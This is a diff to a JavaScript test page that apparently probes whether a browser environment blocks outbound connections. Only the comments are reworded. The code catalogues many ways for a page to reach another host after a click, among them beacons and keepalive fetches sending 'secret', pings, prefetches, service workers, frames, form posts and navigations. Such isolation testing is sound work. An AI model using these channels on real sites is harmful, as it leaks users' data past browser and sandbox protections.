@@ -1,6 +1,7 @@
 "use strict";
-// Every way out of a page that the tests try. The address names them: `/?do=a,b&host=HOST&udp=PORT`. They run when the page is
-// clicked, so that what needs a person's click has one. They go to the other site by the scheme of the page, http or https.
+// Every way out of a page that the tests try. The address names them: `/?do=a,b&host=HOST&udp=PORT`. They run when the
+// page is clicked, so techniques that need a click have one. They use the page's scheme, http or https, to reach the
+// other site.
 
 const parameters = new URLSearchParams(location.search);
 const host = parameters.get("host");
@@ -49,11 +50,11 @@ const techniques = {
     requestSynchronous: name => { const request = new XMLHttpRequest(); request.open("GET", to(name), false); try { request.send(); } catch {} },
     eventSource: name => { new EventSource(to(name)); },
     redirectedImage: name => { new Image().src = `/redirect?to=${encodeURIComponent(to(name))}`; },
-    // What outlives the page.
+    // Techniques that outlive the page.
     beacon: name => navigator.sendBeacon(to(name), "secret"),
     fetchKeepalive: name => fetch(to(name), { keepalive: true, mode: "no-cors", method: "POST", body: "secret" }).catch(() => {}),
     ping: name => click({ href: "#x", ping: to(name) }),
-    // Ahead of a navigation.
+    // Before a navigation.
     prefetch: link("prefetch"),
     prefetchDocument: link("prefetch", { as: "document" }),
     preload: link("preload", { as: "image" }),
@@ -91,7 +92,7 @@ const techniques = {
         await navigator.serviceWorker.ready;
         registration.active.postMessage(to(name));
     },
-    // Reports that the browser sends by itself.
+    // Reports that the browser sends on its own.
     report: name => put(`<iframe src="/reporting?to=${encodeURIComponent(to(name))}"></iframe>`),
     // Frames.
     frame: name => put(`<iframe src="${to(name)}"></iframe>`),
@@ -105,7 +106,7 @@ const techniques = {
     frameRefresh: name => put(`<iframe srcdoc='<meta http-equiv="refresh" content="0;url=${to(name)}">'></iframe>`),
     framePost: name => { put(`<iframe name="f"></iframe>`); submit({ method: "post", action: to(name), target: "f" }); },
     download: name => click({ href: to(name), download: "x" }),
-    // Navigations; each is tried alone.
+    // Navigations; each is tried separately.
     navigate: name => { location.href = to(name); },
     replace: name => location.replace(to(name)),
     metaRefresh: name => { document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=${to(name)}">`); },
@@ -131,10 +132,10 @@ const techniques = {
     leave: name => { addEventListener("pagehide", () => navigator.sendBeacon(to(name))); location.href = "/frame?to=about:blank"; },
 };
 
-// Below the picture of it in the service's page there is nothing to click by accident.
+// Nothing below its image in the service's page can be clicked by accident.
 addEventListener("click", event => {
     if (!event.isTrusted || !parameters.get("do")) return;
-    // The test sees that the click has come, and clicks again where it has not.
+    // The test sees that the click arrived, and repeats it if not.
     navigator.sendBeacon(`/show/clicked/${parameters.get("do")}`);
     for (const name of parameters.get("do").split(",")) {
         try { techniques[name](name); } catch (error) { console.log(name, error); }
